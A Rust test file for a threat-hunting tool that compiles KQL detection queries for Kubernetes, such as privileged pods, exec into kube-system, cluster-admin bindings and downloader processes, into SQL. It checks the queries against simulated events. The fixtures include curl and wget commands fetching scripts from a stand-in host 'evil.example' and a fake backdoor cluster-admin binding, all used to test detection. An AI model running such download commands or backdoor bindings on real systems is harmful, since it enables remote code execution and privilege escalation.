//! KQL hunts compiled to SQL and run on DataFusion over hand-written events, asserting the
//! rows they return; and the same hunts compiled for Trino, checked to be SQL that names no
//! DataFusion-only function.

use std::ops::ControlFlow;
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

use datafusion::arrow::array::{
    ArrayRef, BooleanArray, Int32Array, Int64Array, ListBuilder, RecordBatch, StringArray, StringBuilder,
    TimestampMicrosecondArray,
};
use datafusion::arrow::datatypes::DataType;
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};
use datafusion::common::TableReference;
use datafusion::datasource::MemTable;
use datafusion::prelude::{SessionConfig, SessionContext};
use datafusion::sql::sqlparser::ast::{Expr as SqlExpr, visit_expressions};
use datafusion::sql::sqlparser::dialect::GenericDialect;
use datafusion::sql::sqlparser::parser::Parser;
use riposte_hunt::kql::{Dialect, KqlError, to_sql};
use riposte_hunt::{functions, schema::Table};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------------
// Defender's documented hunts, as written there.

const PRIVILEGED_POD: &str = r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "pods" and isnull(RawEventData.ObjectRef.subresource)
| where RawEventData.ResponseStatus.code startswith "20"
| extend PodName = RawEventData.RequestObject.metadata.name
| extend PodNamespace = RawEventData.ObjectRef.namespace
| mv-expand Container = RawEventData.RequestObject.spec.containers
| extend ContainerName = Container.name
| where Container.securityContext.privileged == "true"
| extend Username = RawEventData.User.username
| project Timestamp, AzureResourceId , OperationName, IPAddress, UserAgent, PodName, PodNamespace, ContainerName, Username"#;

const EXEC_IN_KUBE_SYSTEM: &str = r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "pods" and RawEventData.ObjectRef.subresource == "exec"
| where RawEventData.ObjectRef.namespace == "kube-system"
| where RawEventData.ResponseStatus.code == 101
| extend Namespace = tostring(RawEventData.ObjectRef.namespace)
| extend PodName = tostring(RawEventData.ObjectRef.name)
| extend Username = tostring(RawEventData.User.username)
| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, PodName, Namespace, Username"#;

const CLUSTER_ADMIN_BINDING: &str = r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "clusterrolebindings"
| where RawEventData.ResponseStatus.code startswith "20"
| where RawEventData.RequestObject.roleRef.name == "cluster-admin"
| mv-expand Subject = RawEventData.RequestObject.subjects
| extend SubjectName = tostring(Subject.name)
| extend SubjectKind = tostring(Subject["kind"])
| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, SubjectName, SubjectKind"#;

const DOWNLOADERS: &str = r#"CloudProcessEvents
| where Timestamp > ago(1h)
| where ProcessName in~ ("curl", "wget", "bash") or ProcessCommandLine has_any ("curl", "wget")
| project Timestamp, KubernetesNamespace, KubernetesPodName, ContainerName, ProcessName, ProcessCommandLine, ParentProcessName
| order by Timestamp desc"#;

const RARE_PROCESSES: &str = r#"CloudProcessEvents
| where Timestamp > ago(7d)
| summarize Count = count(), Pods = dcount(KubernetesPodName), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by ProcessName, ContainerImageName
| where Count < 5
| order by Count asc"#;

const SAMPLES: [&str; 5] = [PRIVILEGED_POD, EXEC_IN_KUBE_SYSTEM, CLUSTER_ADMIN_BINDING, DOWNLOADERS, RARE_PROCESSES];

// ---------------------------------------------------------------------------------------------
// Fixtures.

#[derive(Clone, Debug)]
enum Cell {
    Time(i64),
    Text(String),
    Long(i64),
    Bool(bool),
    List(Vec<String>),
}

impl Cell {
    fn time(&self) -> i64 {
        match self {
            Cell::Time(micros) => *micros,
            other => panic!("not a time: {other:?}"),
        }
    }

    fn text(&self) -> String {
        match self {
            Cell::Text(text) => text.clone(),
            other => panic!("not a string: {other:?}"),
        }
    }

    fn long(&self) -> i64 {
        match self {
            Cell::Long(value) => *value,
            other => panic!("not a number: {other:?}"),
        }
    }

    fn bool(&self) -> bool {
        match self {
            Cell::Bool(value) => *value,
            other => panic!("not a bool: {other:?}"),
        }
    }

    fn list(&self) -> &[String] {
        match self {
            Cell::List(items) => items,
            other => panic!("not a list: {other:?}"),
        }
    }
}

type Row = Vec<(&'static str, Cell)>;

fn text(value: &str) -> Cell {
    Cell::Text(value.to_owned())
}

fn list(items: &[&str]) -> Cell {
    Cell::List(items.iter().map(|item| (*item).to_owned()).collect())
}

/// Now, in whole seconds (so that timestamps print without fractions).
fn now_micros() -> i64 {
    let seconds = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    seconds * 1_000_000
}

fn minutes_ago(minutes: i64) -> i64 {
    now_micros() - minutes * 60_000_000
}

/// How the results print an instant of a table's Timestamp column.
fn shown_time(micros: i64) -> String {
    let array = TimestampMicrosecondArray::from(vec![micros]).with_timezone("UTC");
    ArrayFormatter::try_new(&array, &FormatOptions::default()).unwrap().value(0).to_string()
}

fn batch(table: Table, rows: &[Row]) -> RecordBatch {
    let schema = table.schema();
    let columns = schema
        .fields()
        .iter()
        .map(|field| {
            let name = field.name().as_str();
            let cells: Vec<Option<Cell>> =
                rows.iter().map(|row| row.iter().find(|(n, _)| *n == name).map(|(_, cell)| cell.clone())).collect();
            let array: ArrayRef = match field.data_type() {
                DataType::Timestamp(..) => Arc::new(
                    cells
                        .iter()
                        .map(|cell| cell.as_ref().map(Cell::time))
                        .collect::<TimestampMicrosecondArray>()
                        .with_timezone("UTC"),
                ),
                DataType::Utf8 => {
                    Arc::new(cells.iter().map(|cell| cell.as_ref().map(Cell::text)).collect::<StringArray>())
                }
                DataType::Int64 => {
                    Arc::new(cells.iter().map(|cell| cell.as_ref().map(Cell::long)).collect::<Int64Array>())
                }
                DataType::Int32 => {
                    Arc::new(cells.iter().map(|cell| cell.as_ref().map(|c| c.long() as i32)).collect::<Int32Array>())
                }
                DataType::Boolean => {
                    Arc::new(cells.iter().map(|cell| cell.as_ref().map(Cell::bool)).collect::<BooleanArray>())
                }
                DataType::List(_) => {
                    let mut lists = ListBuilder::new(StringBuilder::new());
                    for cell in &cells {
                        match cell {
                            Some(cell) => {
                                cell.list().iter().for_each(|item| lists.values().append_value(item));
                                lists.append(true);
                            }
                            None => lists.append_null(),
                        }
                    }
                    Arc::new(lists.finish())
                }
                other => panic!("no fixture for {other}"),
            };
            array
        })
        .collect();
    RecordBatch::try_new(schema, columns).unwrap()
}

/// A process event: `command_line` is the program, then its arguments.
fn process(minutes: i64, pod: (&str, &str), container: (&str, &str), command_line: &str, parent: &str) -> Row {
    let (namespace, pod) = pod;
    let (container, image) = container;
    let mut words = command_line.split(' ');
    let program = words.next().unwrap();
    let arguments: Vec<&str> = words.collect();
    vec![
        ("Timestamp", Cell::Time(minutes_ago(minutes))),
        ("ClusterName", text("prod-eu")),
        ("NodeName", text("node-1")),
        ("DataSource", text("riposte-sensor")),
        ("ActionType", text("exec")),
        ("KubernetesNamespace", text(namespace)),
        ("KubernetesPodName", text(pod)),
        ("ContainerName", text(container)),
        ("ContainerImageName", text(image)),
        ("ProcessName", text(program)),
        ("ProcessCommandLine", text(command_line)),
        ("ProcessArgs", list(&arguments)),
        ("ProcessId", Cell::Long(1000 + minutes)),
        ("ParentProcessName", text(parent)),
        ("ExecSession", Cell::Bool(parent == "bash")),
        ("AdditionalFields", Cell::Text(json!({"flags": ["O_RDONLY"], "uid": 0}).to_string())),
    ]
}

fn processes() -> Vec<Row> {
    let web = ("default", "web-1");
    let web2 = ("default", "web-2");
    let app = ("app", "nginx:1.27");
    let mut rows = vec![
        process(5, web, app, "curl -s http://evil.example/x.sh", "bash"),
        process(10, web, app, "bash -c id", "containerd-shim"),
        process(15, web2, app, "bashful --run", "sh"),
        process(20, web2, app, "sh -c 'wget -q http://evil.example/y'", "bash"),
        process(40, ("kube-system", "coredns-abc"), ("coredns", "coredns:1.11"), "Curl --version", "sh"),
        process(3 * 24 * 60, web, app, "curl http://old.example", "bash"),
        process(10 * 24 * 60, ("default", "old-pod"), app, "wget http://older.example", "sh"),
    ];
    for minutes in 30..35 {
        rows.push(process(minutes, if minutes % 2 == 0 { web } else { web2 }, app, "nginx -g daemon", "nginx"));
    }
    rows
}

/// An audit event's row: the columns Riposte extracts, and the event as `RawEventData`.
fn audit(minutes: i64, event: Value) -> Row {
    let field = |pointer: &str| event.pointer(pointer).and_then(Value::as_str).map(text);
    let object = |key: &str| field(&format!("/objectRef/{key}"));
    let mut row = vec![
        ("Timestamp", Cell::Time(minutes_ago(minutes))),
        ("ClusterName", text("prod-eu")),
        ("DataSource", text("webhook")),
        ("ActionType", text("ResponseComplete")),
        ("RawEventData", Cell::Text(event.to_string())),
    ];
    let extracted = [
        ("AuditId", field("/auditID")),
        ("OperationName", field("/verb")),
        ("RequestUri", field("/requestURI")),
        ("ResourceId", field("/requestURI")),
        ("Resource", object("resource")),
        ("Subresource", object("subresource")),
        ("KubernetesNamespace", object("namespace")),
        ("ObjectName", object("name")),
        ("UserName", field("/user/username")),
        ("IPAddress", field("/sourceIPs/0")),
        ("UserAgent", field("/userAgent")),
        ("ResponseCode", event.pointer("/responseStatus/code").and_then(Value::as_i64).map(Cell::Long)),
    ];
    row.extend(extracted.into_iter().filter_map(|(name, cell)| Some((name, cell?))));
    let strings = |pointer: &str| -> Vec<&str> {
        event
            .pointer(pointer)
            .and_then(Value::as_array)
            .map_or(vec![], |a| a.iter().filter_map(Value::as_str).collect())
    };
    row.push(("UserGroups", list(&strings("/user/groups"))));
    row.push(("SourceIPs", list(&strings("/sourceIPs"))));
    row
}

/// A Kubernetes audit event (`audit.k8s.io/v1`), stage ResponseComplete.
fn event(id: &str, verb: &str, user: (&str, &str), object_ref: Value, code: i64, request_object: Value) -> Value {
    let (username, address) = user;
    let groups = match username.starts_with("system:serviceaccount:") {
        true => json!(["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]),
        false => json!(["developers", "system:authenticated"]),
    };
    let resource = object_ref["resource"].as_str().unwrap_or_default();
    let uri = match (object_ref["namespace"].as_str(), object_ref["name"].as_str()) {
        (Some(namespace), _) if verb == "create" && object_ref.get("subresource").is_none() => {
            format!("/api/v1/namespaces/{namespace}/{resource}")
        }
        (Some(namespace), Some(name)) => format!("/api/v1/namespaces/{namespace}/{resource}/{name}"),
        _ => format!("/apis/rbac.authorization.k8s.io/v1/{resource}"),
    };
    let mut event = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": id,
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": verb,
        "user": {"username": username, "uid": format!("uid-{username}"), "groups": groups},
        "sourceIPs": [address],
        "userAgent": if username == "mallory" { "kubectl/v1.31.0 (linux/amd64)" } else { "kubectl/v1.33.0" },
        "objectRef": object_ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2026-12-01T10:00:00.000000Z",
        "stageTimestamp": "2026-12-01T10:00:00.010000Z",
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }},
    });
    if !request_object.is_null() {
        event["requestObject"] = request_object;
    }
    event
}

fn pod(name: &str, namespace: &str, containers: Value) -> Value {
    json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": namespace, "labels": {"app": name}},
        "spec": {"containers": containers, "restartPolicy": "Always"},
    })
}

fn pods_ref(namespace: &str, name: &str) -> Value {
    json!({"resource": "pods", "namespace": namespace, "name": name, "apiVersion": "v1"})
}

fn binding(name: &str, role: &str, subjects: Value) -> Value {
    json!({
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": subjects,
    })
}

const ALICE: (&str, &str) = ("alice", "10.0.0.5");
const BOB: (&str, &str) = ("bob", "10.0.0.6");
const MALLORY: (&str, &str) = ("mallory", "203.0.113.7");

fn audits() -> Vec<Row> {
    let privileged_pod = |name: &str| {
        pod(
            name,
            "default",
            json!([
                {"name": "app", "image": "nginx:1.27", "securityContext": {"privileged": true}},
                {"name": "sidecar", "image": "envoy:1.31", "securityContext": {"privileged": false}},
                {"name": "debug", "image": "busybox:1.36", "securityContext": {"privileged": true, "runAsUser": 0}},
            ]),
        )
    };
    let exec = |namespace: &str, name: &str| json!({"resource": "pods", "subresource": "exec", "namespace": namespace, "name": name, "apiVersion": "v1"});
    let bindings_ref = |name: &str| json!({"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
    vec![
        audit(5, event("a1", "create", ALICE, pods_ref("default", "web-1"), 201, privileged_pod("web-1"))),
        audit(
            10,
            event(
                "a2",
                "create",
                BOB,
                pods_ref("default", "api-1"),
                201,
                pod(
                    "api-1",
                    "default",
                    json!([{"name": "api", "image": "api:2", "securityContext": {"privileged": false}}]),
                ),
            ),
        ),
        audit(12, event("a3", "create", ALICE, pods_ref("default", "web-9"), 403, privileged_pod("web-9"))),
        audit(20, event("a4", "create", MALLORY, exec("kube-system", "coredns-abc"), 101, Value::Null)),
        audit(22, event("a5", "create", ALICE, exec("default", "web-1"), 101, Value::Null)),
        audit(
            30,
            event(
                "a6",
                "create",
                MALLORY,
                bindings_ref("backdoor-admin"),
                201,
                binding(
                    "backdoor-admin",
                    "cluster-admin",
                    json!([
                        {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "eve"},
                        {"kind": "ServiceAccount", "name": "backdoor", "namespace": "kube-system"},
                    ]),
                ),
            ),
        ),
        audit(
            32,
            event(
                "a7",
                "create",
                BOB,
                bindings_ref("viewers"),
                201,
                binding("viewers", "view", json!([{"kind": "Group", "name": "developers"}])),
            ),
        ),
        audit(3 * 24 * 60, event("a8", "create", ALICE, pods_ref("default", "web-0"), 201, privileged_pod("web-0"))),
        audit(
            40,
            event(
                "a9",
                "get",
                ("system:serviceaccount:kube-system:replicaset-controller", "10.0.0.1"),
                json!({"resource": "secrets", "namespace": "kube-system", "name": "token", "apiVersion": "v1"}),
                200,
                Value::Null,
            ),
        ),
    ]
}

fn context_with(processes: &[Row], audits: &[Row]) -> SessionContext {
    let config = SessionConfig::new().set_bool("datafusion.sql_parser.enable_ident_normalization", false);
    let ctx = SessionContext::new_with_config(config);
    functions::register(&ctx);
    for (table, rows) in [(Table::CloudProcessEvents, processes), (Table::CloudAuditEvents, audits)] {
        let memory = MemTable::try_new(table.schema(), vec![vec![batch(table, rows)]]).unwrap();
        ctx.register_table(TableReference::bare(table.name()), Arc::new(memory)).unwrap();
    }
    ctx
}

fn context() -> SessionContext {
    context_with(&processes(), &audits())
}

/// The rows `kql` returns on DataFusion: its column names, then each row's values as text
/// (`null` for NULL). Also compiles it for Trino, and checks that SQL (see `trino_sql`).
async fn run_on(ctx: &SessionContext, kql: &str) -> Vec<Vec<String>> {
    trino_sql(kql);
    let sql = to_sql(kql, Dialect::DataFusion).unwrap_or_else(|e| panic!("{e}\n{kql}"));
    let frame = ctx.sql(&sql).await.unwrap_or_else(|e| panic!("{e}\n{sql}"));
    let schema = frame.schema().clone();
    let batches = frame.collect().await.unwrap_or_else(|e| panic!("{e}\n{sql}"));
    let mut rows = vec![schema.fields().iter().map(|f| f.name().clone()).collect::<Vec<_>>()];
    let options = FormatOptions::default().with_null("null");
    for batch in batches {
        let formatters: Vec<_> =
            batch.columns().iter().map(|column| ArrayFormatter::try_new(column.as_ref(), &options).unwrap()).collect();
        for row in 0..batch.num_rows() {
            rows.push(formatters.iter().map(|f| f.value(row).to_string()).collect());
        }
    }
    rows
}

async fn run(kql: &str) -> Vec<Vec<String>> {
    run_on(&context(), kql).await
}

/// The header, then the rows sorted: for queries that set no order.
fn sorted(mut rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
    rows[1..].sort();
    rows
}

fn table(rows: &[&[&str]]) -> Vec<Vec<String>> {
    rows.iter().map(|row| row.iter().map(|cell| (*cell).to_owned()).collect()).collect()
}

/// The Trino SQL for `kql`: SQL a generic parser reads, calling none of DataFusion's own
/// functions.
fn trino_sql(kql: &str) -> String {
    const DATAFUSION_ONLY: &[&str] =
        &["json_array_elements", "date_bin", "now", "unnest", "array_to_string", "array_has", "array_element"];
    let sql = to_sql(kql, Dialect::Trino).unwrap_or_else(|e| panic!("{e}\n{kql}"));
    let statements = Parser::parse_sql(&GenericDialect {}, &sql).unwrap_or_else(|e| panic!("{e}\n{sql}"));
    let mut functions = Vec::new();
    let _ = visit_expressions(&statements, |expr| {
        if let SqlExpr::Function(function) = expr {
            functions.push(function.name.to_string().to_lowercase());
        }
        ControlFlow::<()>::Continue(())
    });
    for function in functions {
        assert!(!DATAFUSION_ONLY.contains(&function.as_str()), "Trino SQL calls {function}:\n{sql}");
    }
    sql
}

fn error(kql: &str) -> KqlError {
    let error = to_sql(kql, Dialect::DataFusion).expect_err(kql);
    assert_eq!(to_sql(kql, Dialect::Trino).expect_err(kql), error, "both dialects fail alike");
    error
}

// ---------------------------------------------------------------------------------------------
// The documented hunts.

fn audit_time(id: &str) -> String {
    let minutes = match id {
        "a1" => 5,
        "a4" => 20,
        "a6" => 30,
        other => panic!("no time for {other}"),
    };
    shown_time(minutes_ago(minutes))
}

#[tokio::test]
async fn defender_privileged_pod_hunt_finds_each_privileged_container() {
    let time = audit_time("a1");
    let header = ["Timestamp", "AzureResourceId", "OperationName", "IPAddress", "UserAgent", "PodName"];
    let mut header = header.to_vec();
    header.extend(["PodNamespace", "ContainerName", "Username"]);
    assert_eq!(
        sorted(run(PRIVILEGED_POD).await),
        table(&[
            &header,
            &[&time, "prod-eu", "create", "10.0.0.5", "kubectl/v1.33.0", "web-1", "default", "app", "alice"],
            &[&time, "prod-eu", "create", "10.0.0.5", "kubectl/v1.33.0", "web-1", "default", "debug", "alice"],
        ])
    );
}

#[tokio::test]
async fn defender_exec_hunt_finds_the_exec_into_kube_system() {
    let time = audit_time("a4");
    let header = ["Timestamp", "AzureResourceId", "OperationName", "IPAddress", "UserAgent", "PodName", "Namespace"];
    let mut header = header.to_vec();
    header.push("Username");
    assert_eq!(
        run(EXEC_IN_KUBE_SYSTEM).await,
        table(&[
            &header,
            &[
                &time,
                "prod-eu",
                "create",
                "203.0.113.7",
                "kubectl/v1.31.0 (linux/amd64)",
                "coredns-abc",
                "kube-system",
                "mallory"
            ],
        ])
    );
}

#[tokio::test]
async fn defender_cluster_admin_hunt_finds_each_subject() {
    let time = audit_time("a6");
    let agent = "kubectl/v1.31.0 (linux/amd64)";
    assert_eq!(
        sorted(run(CLUSTER_ADMIN_BINDING).await),
        table(&[
            &["Timestamp", "AzureResourceId", "OperationName", "IPAddress", "UserAgent", "SubjectName", "SubjectKind"],
            &[&time, "prod-eu", "create", "203.0.113.7", agent, "backdoor", "ServiceAccount"],
            &[&time, "prod-eu", "create", "203.0.113.7", agent, "eve", "User"],
        ])
    );
}

#[tokio::test]
async fn defender_downloader_hunt_matches_names_ignoring_case_and_whole_terms() {
    let at = |minutes| shown_time(minutes_ago(minutes));
    let (five, ten, twenty, forty) = (at(5), at(10), at(20), at(40));
    assert_eq!(
        run(DOWNLOADERS).await,
        table(&[
            &[
                "Timestamp",
                "KubernetesNamespace",
                "KubernetesPodName",
                "ContainerName",
                "ProcessName",
                "ProcessCommandLine",
                "ParentProcessName"
            ],
            &[&five, "default", "web-1", "app", "curl", "curl -s http://evil.example/x.sh", "bash"],
            &[&ten, "default", "web-1", "app", "bash", "bash -c id", "containerd-shim"],
            &[&twenty, "default", "web-2", "app", "sh", "sh -c 'wget -q http://evil.example/y'", "bash"],
            &[&forty, "kube-system", "coredns-abc", "coredns", "Curl", "Curl --version", "sh"],
        ])
    );
}

#[tokio::test]
async fn defender_rare_process_hunt_counts_per_process_and_image() {
    let rows = run(RARE_PROCESSES).await;
    assert_eq!(rows[0], ["ProcessName", "ContainerImageName", "Count", "Pods", "FirstSeen", "LastSeen"]);
    let at = |minutes| shown_time(minutes_ago(minutes));
    // Ascending by count: the four seen once (in any order among them), then curl.
    let mut once = rows[1..5].to_vec();
    once.sort();
    assert_eq!(
        once,
        table(&[
            &["Curl", "coredns:1.11", "1", "1", &at(40), &at(40)],
            &["bash", "nginx:1.27", "1", "1", &at(10), &at(10)],
            &["bashful", "nginx:1.27", "1", "1", &at(15), &at(15)],
            &["sh", "nginx:1.27", "1", "1", &at(20), &at(20)],
        ])
    );
    assert_eq!(rows[5..], table(&[&["curl", "nginx:1.27", "2", "1", &at(3 * 24 * 60), &at(5)]]));
}

#[test]
fn the_trino_sql_of_every_sample_parses_and_calls_no_datafusion_function() {
    for sample in SAMPLES {
        let sql = trino_sql(sample);
        assert!(sql.contains("FROM \"CloudAuditEvents\"") || sql.contains("FROM \"CloudProcessEvents\""), "{sql}");
    }
    let sql = trino_sql(PRIVILEGED_POD);
    assert!(sql.contains("json_format(json_extract(\"RawEventData\", '$.requestObject.spec.containers'))"), "{sql}");
    assert!(sql.contains("CROSS JOIN UNNEST(try(CAST(json_parse("), "{sql}");
    assert!(sql.contains("current_timestamp - INTERVAL '1' DAY"), "{sql}");
    let datafusion = to_sql(PRIVILEGED_POD, Dialect::DataFusion).unwrap();
    assert!(datafusion.contains("unnest(json_array_elements(json_extract(\"RawEventData\""), "{datafusion}");
    assert!(datafusion.contains("(now() - INTERVAL '1' DAY)"), "{datafusion}");
}

// ---------------------------------------------------------------------------------------------
// Tabular operators.

#[tokio::test]
async fn project_renames_and_computes_columns() {
    assert_eq!(
        sorted(run("CloudProcessEvents | where Timestamp > ago(1h) and KubernetesPodName == 'web-2' and ProcessName != 'nginx'
                    | project Pod = KubernetesPodName, ProcessName, Length = strlen(ProcessCommandLine)").await),
        table(&[&["Pod", "ProcessName", "Length"], &["web-2", "bashful", "13"], &["web-2", "sh", "37"]])
    );
}

#[tokio::test]
async fn extend_replaces_a_column_in_place_and_reads_earlier_assignments() {
    assert_eq!(
        run("CloudProcessEvents | where ProcessName == 'bash'
             | project ProcessName, KubernetesPodName, ContainerName
             | extend KubernetesPodName = toupper(KubernetesPodName), Upper = KubernetesPodName, Twice = strcat(Upper, Upper)")
        .await,
        table(&[
            &["ProcessName", "KubernetesPodName", "ContainerName", "Upper", "Twice"],
            &["bash", "WEB-1", "app", "WEB-1", "WEB-1WEB-1"],
        ])
    );
}

#[tokio::test]
async fn project_away_and_project_rename_keep_the_other_columns_in_order() {
    let rows = run("CloudProcessEvents | where ProcessName == 'bash' | project-away Process*, *Id, AdditionalFields
                    | project-rename Pod = KubernetesPodName, Parent = ParentProcessName")
    .await;
    let header = &rows[0];
    assert!(!header.iter().any(|c| c.starts_with("Process") || c.ends_with("Id")), "{header:?}");
    assert_eq!(
        header[..7],
        ["Timestamp", "ClusterName", "NodeName", "DataSource", "ActionType", "KubernetesNamespace", "Pod"]
    );
    assert!(header.contains(&"Parent".to_owned()) && header.contains(&"ExecSession".to_owned()));
    assert_eq!(rows.len(), 2);
}

#[tokio::test]
async fn order_by_sorts_descending_unless_told_and_survives_later_operators() {
    let recent = "CloudProcessEvents | where Timestamp > ago(1h) and ProcessName != 'nginx'";
    let names = |rows: Vec<Vec<String>>| rows[1..].iter().map(|r| r[0].clone()).collect::<Vec<_>>();
    assert_eq!(
        names(run(&format!("{recent} | order by ProcessId | project ProcessName | extend X = 1")).await),
        ["Curl", "sh", "bashful", "bash", "curl"]
    );
    assert_eq!(
        names(
            run(&format!("{recent} | sort by ProcessId asc | project ProcessName | where ProcessName != 'sh'")).await
        ),
        ["curl", "bash", "bashful", "Curl"]
    );
    assert_eq!(
        names(run(&format!("{recent} | order by KubernetesNamespace asc, ProcessId desc | project ProcessName")).await),
        ["sh", "bashful", "bash", "curl", "Curl"]
    );
    assert_eq!(
        names(run(&format!("{recent} | order by ProcessId asc | take 2 | project ProcessName")).await),
        ["curl", "bash"]
    );
}

#[tokio::test]
async fn top_and_take_limit_rows() {
    assert_eq!(
        run("CloudProcessEvents | top 2 by ProcessId asc | project ProcessName, ProcessId").await,
        table(&[&["ProcessName", "ProcessId"], &["curl", "1005"], &["bash", "1010"]])
    );
    assert_eq!(
        run("CloudProcessEvents | top 1 by ProcessId | project ProcessName").await,
        table(&[&["ProcessName"], &["wget"]])
    );
    assert_eq!(run("CloudProcessEvents | take 3").await.len(), 4);
    assert_eq!(run("CloudProcessEvents | limit 0").await.len(), 1);
}

#[tokio::test]
async fn distinct_and_count() {
    assert_eq!(
        sorted(run("CloudProcessEvents | distinct KubernetesNamespace, ContainerName").await),
        table(&[&["KubernetesNamespace", "ContainerName"], &["default", "app"], &["kube-system", "coredns"]])
    );
    assert_eq!(run("CloudProcessEvents | where ProcessName == 'nginx' | count").await, table(&[&["Count"], &["5"]]));
    assert_eq!(run("CloudAuditEvents | distinct * | count").await, table(&[&["Count"], &["9"]]));
}

#[tokio::test]
async fn summarize_aggregates_with_kql_default_names() {
    let rows = run("CloudProcessEvents | where Timestamp > ago(7d)
                    | summarize count(), countif(ExecSession), dcount(KubernetesPodName), max(ProcessId), sum(ProcessId),
                                Average = avg(ProcessId), make_set(ProcessName), sum(ProcessId * 2) by KubernetesNamespace
                    | order by KubernetesNamespace asc")
    .await;
    assert_eq!(
        rows,
        table(&[
            &[
                "KubernetesNamespace",
                "count_",
                "countif_",
                "dcount_KubernetesPodName",
                "max_ProcessId",
                "sum_ProcessId",
                "Average",
                "set_ProcessName",
                "sum_ProcessId1",
            ],
            &["default", "10", "3", "2", "5320", "14530", "1453.0", &rows[1][7], "29060"],
            &["kube-system", "1", "0", "1", "1040", "1040", "1040.0", "[Curl]", "2080"],
        ])
    );
    let rows = sorted(
        run("CloudProcessEvents | where Timestamp > ago(7d)
             | summarize Count = count(), Shells = countif(ProcessName in ('bash', 'sh')), Pods = dcount(KubernetesPodName),
                         Names = make_set(ProcessName), Ratio = countif(ExecSession) * 100.0 / count() by KubernetesNamespace")
        .await,
    );
    assert_eq!(rows[1][..4], ["default", "10", "2", "2"]);
    let mut names: Vec<&str> = rows[1][4].trim_matches(['[', ']']).split(", ").collect();
    names.sort();
    assert_eq!(names, ["bash", "bashful", "curl", "nginx", "sh"]);
    assert_eq!(rows[1][5], "30.0");
    assert_eq!(rows[2][..4], ["kube-system", "1", "0", "1"]);
    assert_eq!(
        run("CloudProcessEvents | where ProcessName == 'none' | summarize count(), min(ProcessId)").await,
        table(&[&["count_", "min_ProcessId"], &["0", "null"]])
    );
    assert_eq!(
        sorted(run("CloudProcessEvents | where Timestamp > ago(1h) | summarize by KubernetesNamespace").await),
        table(&[&["KubernetesNamespace"], &["default"], &["kube-system"]])
    );
}

#[tokio::test]
async fn summarize_by_bin_rounds_times_down() {
    let at = |text: &str| utc(text);
    let rows: Vec<Row> = [("2026-12-01T10:05:00Z", "a"), ("2026-12-01T10:59:59Z", "b"), ("2026-12-01T11:00:00Z", "a")]
        .into_iter()
        .map(|(time, name)| vec![("Timestamp", Cell::Time(at(time))), ("ProcessName", text(name))])
        .collect();
    let ctx = context_with(&rows, &[]);
    assert_eq!(
        sorted(
            run_on(
                &ctx,
                "CloudProcessEvents | summarize Count = count(), Names = dcount(ProcessName) by bin(Timestamp, 1h)"
            )
            .await
        ),
        table(&[
            &["Timestamp", "Count", "Names"],
            &["2026-12-01T10:00:00Z", "2", "2"],
            &["2026-12-01T11:00:00Z", "1", "1"],
        ])
    );
    assert_eq!(
        sorted(
            run_on(&ctx, "CloudProcessEvents | summarize count() by Day = startofday(Timestamp), bin(ProcessId, 10)")
                .await
        ),
        table(&[&["Day", "ProcessId", "count_"], &["2026-12-01T00:00:00Z", "null", "3"]])
    );
    assert_eq!(
        run_on(&ctx, "CloudProcessEvents | where Timestamp between (datetime(2026-12-01 10:30) .. datetime(2026-12-01T11:00:00Z))
                      | extend Slot = bin(Timestamp, 15m) | project Slot, ProcessName | order by Slot asc")
        .await,
        table(&[&["Slot", "ProcessName"], &["2026-12-01T10:45:00Z", "b"], &["2026-12-01T11:00:00Z", "a"]])
    );
}

/// A UTC instant (`2026-12-01T10:05:00Z`) in microseconds, read by the engine itself.
fn utc(text: &str) -> i64 {
    let array = datafusion::arrow::compute::cast(
        &StringArray::from(vec![text]),
        &DataType::Timestamp(datafusion::arrow::datatypes::TimeUnit::Microsecond, Some("UTC".into())),
    )
    .unwrap();
    array.as_any().downcast_ref::<TimestampMicrosecondArray>().unwrap().value(0)
}

#[tokio::test]
async fn arg_max_keeps_each_groups_latest_row() {
    assert_eq!(
        sorted(
            run("CloudProcessEvents | where Timestamp > ago(7d) | summarize arg_max(Timestamp, *) by KubernetesPodName
                 | project KubernetesPodName, ProcessName, ProcessId")
            .await
        ),
        table(&[
            &["KubernetesPodName", "ProcessName", "ProcessId"],
            &["coredns-abc", "Curl", "1040"],
            &["web-1", "curl", "1005"],
            &["web-2", "bashful", "1015"],
        ])
    );
    let rows = run("CloudProcessEvents | where Timestamp > ago(7d) | summarize arg_min(ProcessId, ProcessName, ContainerName) by KubernetesNamespace, ContainerImageName | order by KubernetesNamespace asc").await;
    assert_eq!(
        rows,
        table(&[
            &["KubernetesNamespace", "ContainerImageName", "ProcessId", "ProcessName", "ContainerName"],
            &["default", "nginx:1.27", "1005", "curl", "app"],
            &["kube-system", "coredns:1.11", "1040", "Curl", "coredns"],
        ])
    );
    assert_eq!(
        run("CloudProcessEvents | summarize arg_max(strlen(ProcessCommandLine), ProcessName)").await,
        table(&[&["max_ProcessCommandLine", "ProcessName"], &["37", "sh"]])
    );
}

#[tokio::test]
async fn joins_suffix_the_right_sides_duplicate_columns() {
    let exec_users =
        "CloudAuditEvents | where Subresource == 'exec' | project KubernetesPodName = ObjectName, UserName";
